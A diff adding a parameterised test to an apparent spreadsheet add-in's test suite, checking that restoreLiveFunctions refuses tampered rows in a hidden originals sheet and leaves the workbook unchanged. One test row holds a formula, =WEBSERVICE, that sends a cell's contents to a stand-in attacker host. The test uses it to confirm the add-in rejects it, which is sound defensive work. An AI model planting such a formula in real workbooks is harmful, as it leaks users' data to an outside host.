@@ -208,6 +208,26 @@ describe("Restore live functions", () => {
     expect([m.at("B1"), m.at("A2"), m.at("B2")]).toEqual([undefined, undefined, undefined]);
   });
 
+  it.each([
+    ["a written range beyond the spill", ["Model", "A1", "=AIECON.PRICESASOF()", "", "A1:XFD1048576", "2026-11-23"], /covers 17,179,869,184 cells/],
+    ["a formula without AIECON", ["Model", "B1", '=WEBSERVICE("http://evil.example/"&A1)', "", "", "2026-11-23"], /calls no AIECON function/],
+    ["a range on another sheet", ["Model", "A1", "=AIECON.PRICESASOF()", "", "Data!A1:B2", "2026-11-23"], /is not the block its cell A1 spilled into/],
+  ])("refuses a planted row (%s) and changes nothing", async (_, row, problem) => {
+    const wb = new FakeWorkbook();
+    const m = wb.sheet("Model");
+    m.set(0, 0, 0.5);
+    m.set(0, 1, 7);
+    wb.sheet("Data").set(0, 0, "keep");
+    const kept = wb.sheet(ORIGINALS_SHEET);
+    kept.visibility = "VeryHidden";
+    ["Sheet", "Cell", "Original formula", "Array range", "Written range", "Converted"].forEach((h, c) => kept.set(0, c, h));
+    row.forEach((v, c) => kept.cells.set(kept.key(1, c), { value: v, format: "@" }));
+    wb.install();
+    await expect(restoreLiveFunctions()).rejects.toThrow(problem);
+    expect([m.at("A1")!.value, m.at("B1")!.value, m.at("B1")!.formula, wb.sheet("Data").at("A1")!.value]).toEqual([0.5, 7, undefined, "keep"]);
+    expect(wb.sheets.map((s) => s.name)).toContain(ORIGINALS_SHEET);
+  });
+
   it("reports nothing to restore in a workbook never prepared", async () => {
     new FakeWorkbook().install();
     expect(await restoreLiveFunctions()).toEqual({ restored: 0 });
